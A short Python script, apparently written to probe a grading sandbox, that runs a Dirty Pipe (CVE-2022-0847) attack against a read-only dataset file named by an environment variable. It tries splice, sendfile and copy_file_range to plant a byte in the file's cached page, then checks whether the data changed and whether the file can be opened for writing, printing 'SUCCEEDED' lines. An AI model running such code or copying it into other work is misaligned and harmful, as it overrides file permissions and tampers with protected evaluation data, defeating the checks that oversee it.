"""Writes into the dataset, which it may only read, through a pipe that still believes it may merge into its page."""

SOURCE = "CVE-2022-0847"
SUCCESS = "a neighbour whose dataset is another one"

# %%
import os

path = os.environ["GRADECAST_DATA"].split("=")[1].split(os.pathsep)[0]
before = open(path, "rb").read()
for way in ("splice", "sendfile", "copy_file_range"):
    file = os.open(path, os.O_RDONLY)
    reading, writing = os.pipe()
    for _ in range(16):
        os.write(writing, b"x" * 4096)
    for _ in range(16):
        os.read(reading, 4096)
    try:
        if way == "splice":
            print("spliced", os.splice(file, writing, 1, offset_src=3))
        elif way == "sendfile":
            print("sent", os.sendfile(writing, file, 3, 1))
        else:
            print("copied", os.copy_file_range(file, writing, 1, 3))
        os.write(writing, b"9")
        print(os.read(reading, 10))
    except OSError as error:
        print(way, error)
after = open(path, "rb").read()
print("SUCCEEDED: the dataset is changed" if after != before else "nothing is changed", len(before))
for mode in ("r+b", "ab"):
    try:
        open(path, mode)
        print("SUCCEEDED: can write the dataset")
    except OSError as error:
        print(error)
print("attempted")
